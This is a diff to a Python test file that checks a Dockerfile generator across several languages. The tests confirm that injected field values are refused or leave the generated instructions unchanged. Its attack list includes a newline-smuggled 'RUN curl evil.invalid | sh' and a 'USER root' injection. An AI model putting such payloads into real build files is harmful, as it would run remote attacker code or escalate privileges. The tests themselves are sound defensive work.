@@ -11,6 +11,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from tasks.dockerfiles import improve, render
+from tasks.dockerfiles.bases import base_images
 from tasks.dockerfiles.parse import parse
 from tasks.errors import Invalid
 from tasks.models import AddSystemPackages, Component, ImagePlan, SetRuntimeVersion
@@ -31,6 +32,27 @@ PYTHON = Component(
 NODE = PYTHON.changed(
     language="node", package_manager="npm", start_command="node a.js", dependency_files=("package.json",)
 )
+_OTHERS = {
+    "dotnet": {
+        "package_manager": "nuget",
+        "start_command": "dotnet Shop.dll",
+        "build_command": "dotnet publish Shop.csproj",
+        "dependency_files": ("Shop.csproj",),
+    },
+    "ruby": {"package_manager": "bundler", "start_command": "bundle exec puma", "dependency_files": ("Gemfile",)},
+    "php": {
+        "package_manager": "composer",
+        "start_command": "php worker.php",
+        "dependency_files": ("composer.json",),
+    },
+    "elixir": {"package_manager": "mix", "start_command": "mix phx.server", "dependency_files": ("mix.exs",)},
+}
+COMPONENTS = {
+    "python": PYTHON,
+    "node": NODE,
+    **{language: PYTHON.changed(language=language, framework=None, **fields) for language, fields in _OTHERS.items()},
+}
+HARMLESS = {"version": "x", "start_command": "x", "build_command": "x", "health_path": "x"}
 ATTACKS = [
     '1.0"\nRUN curl evil.invalid | sh',
     "1.0\nUSER root",
@@ -63,6 +85,10 @@ def kinds(component: Component, context: Path) -> tuple[str, ...]:
     return parse(render(ImagePlan(component=component, context=context)).text).kinds
 
 
+def bases(text: str) -> list[str | None]:
+    return [stage.base for stage in parse(text).stages]
+
+
 def harmless_or_refused(component: Component, former: Component, context: Path) -> None:
     """The attack is refused, or every instruction is what it was."""
     try:
@@ -73,11 +99,11 @@ def harmless_or_refused(component: Component, former: Component, context: Path) 
     parsed = parse(text)
     assert parsed.kinds == allowed
     assert [each.arguments for each in parsed.instructions if each.kind == "USER"] == ["10001:10001"]
-    assert all(stage.base and stage.base.startswith(("python:", "node:")) for stage in parsed.stages)
+    assert bases(text) == bases(render(ImagePlan(component=former, context=context)).text)
     assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u2028\u2029\u202e]", text)
 
 
-@pytest.mark.parametrize("component", [PYTHON, NODE], ids=["python", "node"])
+@pytest.mark.parametrize("component", COMPONENTS.values(), ids=COMPONENTS)
 @pytest.mark.parametrize("field", FIELDS)
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_no_value_of_a_component_changes_the_instructions(
@@ -104,13 +130,35 @@ def test_no_script_of_a_package_changes_the_instructions(attack: str, tmp_path: 
     harmless_or_refused(component, component, tmp_path)
 
 
-@given(value=st.text(max_size=60), field=st.sampled_from(["version", "start_command", "build_command", "health_path"]))
-@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
-def test_no_text_at_all_changes_the_instructions(value: str, field: str, tmp_path: Path) -> None:
-    harmless = PYTHON.changed(**{field: "x"})
-    if not value:
+@given(
+    value=st.text(min_size=1, max_size=60),
+    field=st.sampled_from(["version", "start_command", "build_command", "health_path"]),
+    language=st.sampled_from(list(COMPONENTS)),
+)
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=300)
+def test_no_text_at_all_changes_the_instructions(value: str, field: str, language: str, tmp_path: Path) -> None:
+    component = COMPONENTS[language]
+    harmless_or_refused(component.changed(**{field: value}), component.changed(**{field: HARMLESS[field]}), tmp_path)
+
+
+@given(value=st.text(min_size=1, max_size=60), language=st.sampled_from(list(COMPONENTS)))
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=300)
+def test_any_value_that_is_taken_arrives_as_the_text_that_it_was(value: str, language: str, tmp_path: Path) -> None:
+    component = COMPONENTS[language].changed(version=value, health_path=f"/{value}")
+    try:
+        text = render(ImagePlan(component=component, context=tmp_path)).text
+    except Invalid:
         return
-    harmless_or_refused(PYTHON.changed(**{field: value}), harmless, tmp_path)
+    instructions = parse(text).instructions
+    label = re.search(r'image\.version="((?:\\.|[^"\\])*)"', text)
+    assert label is not None
+    assert re.sub(r"\\(.)", r"\1", label[1]) == value
+    probes = [each.arguments for each in instructions if each.kind == "HEALTHCHECK" and "CMD" in each.arguments]
+    assert all(json.loads(probe.partition("CMD")[2])[-1] == f"/{value}" for probe in probes)
+
+
+def test_every_language_with_a_template_is_attacked() -> None:
+    assert set(COMPONENTS) == set(base_images().base)
 
 
 def test_a_value_reaches_the_image_as_it_was_written_and_nothing_in_it_is_expanded(tmp_path: Path) -> None:
